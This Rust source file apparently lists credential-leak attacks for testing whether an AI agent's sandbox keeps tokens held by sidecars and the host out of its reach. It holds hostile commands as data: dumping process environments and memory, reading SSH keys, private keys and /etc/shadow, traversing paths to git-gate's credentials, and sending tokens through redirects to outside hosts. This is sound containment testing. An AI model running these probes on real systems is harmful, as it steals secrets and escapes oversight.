//! Credentials: those that sidecars hold for the agent, and those of the host.

use crate::table::{Attack, Group, recorded};

pub(crate) const ATTACKS: &[Attack] = &[
    // The routed host repeats what it was sent. The agent must see no token.
    tries("a token repeated as it is", "sh('curl -sS https://$API/echo; curl -sS https://$API/reflect?as=plain')"),
    tries("a token repeated in upper and lower case", "sh('curl -sS https://$API/reflect?as=upper; curl -sS https://$API/reflect?as=lower; curl -sS https://$API/reflect?as=swap')"),
    tries("a token repeated in base64", "for shift in range(3): sh(f'curl -sS \"https://$API/reflect?as=base64&shift={shift}\"; curl -sS \"https://$API/reflect?as=base64url&shift={shift}\"')"),
    tries("a token repeated in hexadecimal", "sh('curl -sS https://$API/reflect?as=hex; curl -sS https://$API/reflect?as=HEX')"),
    tries("a token repeated in percent escapes", "sh('curl -sS https://$API/reflect?as=percent; curl -sS https://$API/reflect?as=percent-all')"),
    tries("a token repeated in JSON escapes", "sh('curl -sS https://$API/reflect?as=json; curl -sS https://$API/reflect?as=json-all')"),
    tries("a token repeated in HTML entities", "sh('curl -sS https://$API/reflect?as=html; curl -sS https://$API/reflect?as=html-all')"),
    tries("a token repeated in a header", "sh('curl -sSi https://$API/reflect?as=header; curl -sSI -X HEAD https://$API/reflect?as=header')"),
    tries("a token repeated in the reason, a cookie and a redirect", "sh('curl -sSi https://$API/reflect?as=reason; curl -sSi https://$API/reflect?as=cookie; curl -sSi https://$API/reflect?as=location')"),
    tries("a token repeated in an error's page", "sh('curl -sSi https://$API/reflect?as=error')"),
    tries("a token repeated in single bytes", "sh('curl -sSN https://$API/reflect?as=bytes')"),
    tries("a token repeated in trailers and chunk extensions", "sh('curl -sSiN --raw https://$API/reflect?as=trailer')"),
    tries("a token repeated twice in a row and cut off", "sh('curl -sSN https://$API/reflect?as=twice; curl -sS -r 0-40 https://$API/reflect?as=plain; curl -sS -r 20-200 https://$API/reflect?as=plain')"),
    tries("a token repeated in a compressed answer", "sh('curl -sS --compressed https://$API/reflect?as=plain; curl -sS -H \"Accept-Encoding: gzip\" https://$API/reflect?as=plain | gunzip; curl -sS -H \"TE: gzip\" https://$API/reflect?as=plain')"),
    tries("a basic credential repeated, whole and decoded", "sh('curl -sS https://$API/demo.git/reflect?as=plain; curl -sS https://$API/reflect?as=decoded; GIT_TRACE_CURL=1 GIT_TRACE_PACKET=1 git ls-remote https://$API/demo.git')"),
    // A token at a place where it does not belong. The outside host records what arrived.
    tries("the token's header in other spellings", "for name in ('X-API-KEY', 'x_api_key', 'X-Api-Key ', 'X-Api-Key\\t', 'Connection: x-api-key\\r\\nX-Api-Key'): routed('GET /echo', more=f'{name}: own\\r\\n')"),
    tries("templates in place of a token", "for text in ('{token}', '${EGRESS_TOKEN_ATTACK_API}', '$ATTACK_API', '%(token)s', '{{token}}', '{slot}', '__token__'): routed(f'GET /echo?x={urllib.parse.quote(text)}', more=f'X-Stainless-Lang: {text}\\r\\nUser-Agent: {text}\\r\\n'); routed('POST /echo', more=f'Content-Length: {len(text)}\\r\\n', body=text)"),
    tries("the token of one route at another route's host", "for host, sni in ((OTHER, API), (API, OTHER), (OUTSIDE, API), (API, OUTSIDE)): tunnel(f'{host}:443', f'GET /v1/echo HTTP/1.1\\r\\nHost: {sni}\\r\\n\\r\\n'); tunnel(f'{host}:443', f'GET /v1/echo HTTP/1.1\\r\\nHost: {sni}\\r\\n\\r\\n', sni=sni); tunnel(f'{host}:443', f'GET /v1/echo HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n', sni=sni)"),
    tries("the token without encryption", "get(f'http://{API}/echo'); get(f'http://{API}:80/v1/x'); connect(f'{API}:80', send=f'GET /echo HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n'); connect(f'{API}:443', send=f'GET /echo HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')"),
    tries("the token at another port of its host", "for port in (80, 8443, 9000): tunnel(f'{API}:{port}', f'GET /echo HTTP/1.1\\r\\nHost: {API}:{port}\\r\\n\\r\\n'); tunnel(f'{API}:443', f'GET /echo HTTP/1.1\\r\\nHost: {API}:{port}\\r\\n\\r\\n')"),
    tries("the token on a path that has none", "for path in ('/other', '/', '/v2/', '/demo.git/../echo'): routed(f'GET {path}')"),
    tries("a redirect that takes the token along", "sh('for to in https://$OUTSIDE/echo https://$OTHER/v1/echo http://$API/echo https://$FORBIDDEN/; do curl -sSL -m 8 --location-trusted -H \"X-Api-Key: placeholder\" \"https://$API/redirect?to=$to\"; done')"),
    tries("an upgrade that keeps the token", "for kind in ('websocket', 'h2c', 'TLS/1.0'): routed('GET /echo', more=f'Connection: Upgrade\\r\\nUpgrade: {kind}\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: eA==\\r\\n')"),
    tries("a WebSocket that repeats the token", "tunnel(f'{API}:443', f'GET /v1/responses HTTP/1.1\\r\\nHost: {API}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: eA==\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\n\\r\\n')"),
    // Where a token could lie.
    tries("the environments of all processes", "sh('cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ | tr \"\\\\0\" \"\\\\n\"; env')"),
    tries("the command lines and open files of all processes", "sh('cat /proc/[0-9]*/cmdline /proc/[0-9]*/mountinfo; ls -l /proc/[0-9]*/fd /proc/[0-9]*/root /proc/[0-9]*/cwd; cat /proc/1/fd/* 2>/dev/null')"),
    tries("the files of the whole container", GREP),
    tries("the agent's own configuration", "sh('cat ~/.gitconfig ~/.claude.json ~/.codex/* ~/.config/*/* ~/.netrc ~/.npmrc ~/.docker/config.json ~/.ssh/*; git config --list --show-origin; npm config list; cat /etc/gitconfig /etc/bottle/* /etc/bottle/*/*')"),
    tries("the authority's private key", "sh('find / -xdev \\\\( -name \"*.key\" -o -name \"*key.pem\" -o -name \"ca.pem\" -o -name \"id_*\" \\\\) -exec cat {} +')"),
    tries("git's credential helpers and an ssh agent", "sh('for host in $OUTSIDE $API git-gate; do printf \"protocol=https\\\\nhost=$host\\\\n\\\\n\" | GIT_TERMINAL_PROMPT=0 git credential fill; done; ssh-add -L; echo $SSH_AUTH_SOCK; find / -xdev -type s')"),
    tries("the memory of other processes", "
for path in pathlib.Path('/proc').glob('[0-9]*'):
    if path.name in (str(os.getpid()), str(os.getppid())) or b'python3' in (read(path / 'cmdline') or b'python3'): continue
    try:
        with open(path / 'mem', 'rb') as memory:
            for line in sysfile(path / 'maps').splitlines()[:25]:
                first, last = (int(end, 16) for end in line.split()[0].split('-'))
                try: memory.seek(first); print(readable(memory.read(min(last - first, 1 << 16))))
                except OSError: pass
    except OSError as error: print(error)"),
    tries("the pages of egress", "for path in ('/', '/env', '/debug', '/flows', '/options', '/metrics', '/status', '/config', '/etc/egress/ca.pem', '/../../tmp/egress-status.json'):
    for port in (9099, 8081, 8080):
        for method in ('GET', 'POST', 'OPTIONS'): bare(f'{method} {path} HTTP/1.1\\r\\nHost: egress:{port}\\r\\nConnection: close\\r\\nContent-Length: 0\\r\\n\\r\\n', ('egress', port))"),
    tries("the pages of supervise", "for path in ('/', '/env', '/healthz', '/metrics', '/config/posture.json', '/../../proc/self/environ', '/queue/audit.jsonl', '//etc/passwd'): supervise('GET', path)"),
    tries("files of git-gate by its git service", "for path in ('/../etc/git-gate/creds/app-key', '/etc/git-gate/creds', '//etc/git-gate/creds/app-key', '/app.git/../../etc/git-gate/creds', '/~root', '/.', '/mirrors/app.git', '/app.git\\0../etc'):
    for service in ('git-upload-pack', 'git-upload-archive', 'git-receive-pack'):
        request = f'{service} {path}\\0host=git-gate\\0'; tcp('git-gate', 9418, f'{len(request) + 4:04x}{request}')"),
    tries("files of git-gate by a remote archive", "sh('for name in app web; do git archive --remote=git://git-gate/$name.git HEAD | head -c 10000; git archive --remote=git://git-gate/$name.git --output=$D/x.tar HEAD:../../etc/git-gate; done')"),
    tries("errors that say too much", "for url in (f'https://{API}/v1/x', f'https://{OTHER}/v2/x'): sh(f'curl -sSiv -X DELETE {url}; curl -sSiv -H \"Host: x\" {url}')
sh('GIT_TRACE=1 GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 git ls-remote git://git-gate/web.git; git push git://git-gate/web.git HEAD:refs/x/$N')"),
    tries("what the host left in shared memory, queues and keyrings", "sh('ls -lR /dev/shm /dev/mqueue; cat /dev/shm/* /dev/mqueue/*; cat /proc/keys /proc/key-users; ipcs -a; cat /proc/sysvipc/*')"),
    tries("as root: the environments of all processes", "sh('cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ | tr \"\\\\0\" \"\\\\n\"; cat /proc/[0-9]*/cmdline; env')").as_root(),
    tries("as root: the files of the whole container", GREP).as_root(),
    tries("as root: the authority's private key", "sh('find / -xdev \\\\( -name \"*.key\" -o -name \"*key.pem\" -o -name \"ca.pem\" -o -name \"id_*\" \\\\) -exec cat {} +; cat /etc/shadow /etc/bottle/* /etc/bottle/*/*')").as_root(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    recorded(Group::Credentials, name, program)
}

/// Prints every line that has the shape of a credential.
const GREP: &str = "sh('timeout 25 grep -raohE \"REAL-[A-Za-z0-9_-]{8,}|CANARY-[A-Za-z0-9_-]{8,}|BEGIN [A-Z ]*PRIVATE KEY\" /etc /home /root /run /tmp /var /workspace /srv /mnt /media /opt/bottle /proc/[0-9]*/environ 2>/dev/null | grep -v attack- | sort -u | head -1000')";
